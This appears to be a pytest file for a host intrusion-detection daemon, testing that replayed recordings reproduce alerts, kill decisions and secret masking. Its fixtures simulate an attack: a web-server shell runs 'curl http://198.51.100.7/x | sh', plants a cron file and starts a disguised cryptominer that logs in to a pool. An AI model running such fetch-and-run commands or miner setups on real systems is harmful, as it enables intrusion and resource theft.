# SPDX-License-Identifier: Apache-2.0
"""Days that were recorded: judged again, they are judged as they were."""

import pytest

from firedamp.context.host import HostContext
from firedamp.replay import Replay, Rules, compare
from firedamp.settings import Settings
from firedamp.sources.masks import Masks
from firedamp.sources.recorded import Recorded
from firedamp.sources.recording import Header, Recorder

WALLET = "4" + "8" * 94
POOL = "203.0.113.7"


@pytest.fixture
def bad_day(day):
    """A dropper, a disguised miner that looks up its pool, and a cron line."""
    php = day.service("/usr/sbin/php-fpm8.2", "php8.2-fpm.service", uid=33)
    shell = day.shell(php, "curl http://198.51.100.7/x | sh")
    day.write(shell, "cron", "/etc/cron.d/x", "create")
    miner = day.run(shell, "/tmp/.x/kswapd0", "/tmp/.x/kswapd0", "--pass=hunter2", uid=33)
    day.resolve(miner, "xmr-eu1.nanopool.org", POOL)
    params = {"login": WALLET, "pass": "x", "agent": "XMRig/6.21", "algo": ["rx/0"]}
    day.talk(miner, POOL, 3333, {"id": 1, "jsonrpc": "2.0", "method": "login", "params": params})
    day.work(miner, cores=1.9, seconds=130, threads=2)
    day.exit(miner)
    return day


@pytest.fixture
def rules(compiled, indicators):
    """The shipped ones."""
    return Rules(policies=compiled, indicators=indicators, settings=Settings())


@pytest.fixture
def record(tmp_path):
    """Record days, as the daemon does, and give what was recorded."""

    def run(day, *, first=0):
        header = Header(
            version="1", run="20261123T120000-abcdef", sequence=0, boot_id="test",
            host_name="h", host_id="", clock_offset_ns=0, cpu_window_s=60, cpu_cores=0.8,
        )  # fmt: skip
        file = tmp_path / f"{first}.jsonl.gz"
        recorder = Recorder(file, header, Masks(), max_bytes=1 << 24)
        host = HostContext()
        for event in day.events[:first]:
            host.observe(event)
        recorder.write(day.events[first:], host)
        recorder.close()
        return Recorded(file)

    return run


def facts(alerts):
    """Of alerts, what must not differ."""
    return [
        (
            one.policy.id, one.process, one.actor, one.incident, one.at_ns, one.suppressed,
            [(each.policy_id, each.process) for each in one.evidence],
        )
        for one in alerts
    ]  # fmt: skip


def test_verdict_is_the_same(bad_day, judge, rules, record):
    """
    Policies, processes, actors, incidents, evidence, and who would be killed.
    """
    live = judge(bad_day)
    replay = Replay(rules)

    again = [told for item in record(bad_day) for told in replay.take(item)]

    assert len(live.names) >= 6
    assert facts(one.alert for one in again) == facts(live.alerts)
    kills = {key for told in again for key in told.kills}
    killed = [one for one in live.decisions if "kill" in one.actions]
    assert kills == {key for one in killed for key in (one.target, *one.related)}
    assert replay.not_judged == 0


def test_secret_is_masked_and_the_verdict_stands(bad_day, judge, rules, record):
    """
    The option is still there for policies to see.
    """
    replay = Replay(rules)

    again = [told for item in record(bad_day) for told in replay.take(item)]

    lines = {dict(told.alert.fields).get("CommandLine") for told in again}
    assert "/tmp/.x/kswapd0 --pass=***" in lines
    assert not any("hunter2" in str(one) for one in lines)


def test_secret_of_a_process_that_was_there_before_is_masked(bad_day, record):
    """
    It is in what was known before, and nowhere else.
    """
    recorded = record(bad_day, first=len(bad_day.events) - 1)

    known = [
        one.what.argv for one in recorded if hasattr(one, "what") and hasattr(one.what, "argv")
    ]

    assert ("/tmp/.x/kswapd0", "--pass=***") in known
    assert not any("hunter2" in str(one) for one in known)


def test_recording_from_the_middle_names_the_same_incident(bad_day, judge, rules, record):
    """
    Who started whom is known from before; what happens later is laid at the same door.
    """
    middle = next(
        at for at, one in enumerate(bad_day.events) if type(one).__name__ == "DnsMessageSeen"
    )
    live = judge(bad_day)
    replay = Replay(rules)

    again = [told.alert for item in record(bad_day, first=middle) for told in replay.take(item)]

    later = [one for one in facts(live.alerts) if one[4] >= bad_day.events[middle].at_ns]
    simple = {one[:5] for one in later if not one[6]}
    assert simple
    assert simple <= {one[:5] for one in facts(again)}


def test_who_starts_it_again_would_be_killed_with_it(day, rules, record):
    """
    As the daemon takes the watchdog along with the second miner.
    """
    php = day.service("/usr/sbin/php-fpm8.2", "php8.2-fpm.service", uid=33)
    watchdog = day.run(php, "/tmp/w", "/tmp/w")
    params = {"login": WALLET, "pass": "x", "agent": "XMRig/6.21", "algo": ["rx/0"]}
    for _ in range(2):
        miner = day.run(watchdog, "/usr/bin/rsync", "rsync")
        day.talk(miner, POOL, 3333, {"id": 1, "method": "login", "params": params})
        day.exit(miner)
        day.now_s += 61
    replay = Replay(rules)

    told = [one for item in record(day) for one in replay.take(item)]

    logins = [one.kills for one in told if one.alert.policy.title.endswith("in to a mining pool")]
    assert [watchdog in kills for kills in logins] == [False, True]


def test_same_rules_differ_in_nothing(bad_day, rules, record):
    """
    A comparison of a set with itself is empty, and says what both would do.
    """
    found = compare(record(bad_day), Replay(rules), Replay(rules))

    assert (found.appear, found.vanish, found.killed_by_old, found.killed_by_new) == (
        [],
        [],
        {},
        {},
    )
    assert found.stay > 6
    assert list(found.killed_by_both.values()) == ["/tmp/.x/kswapd0", "/usr/bin/dash"]
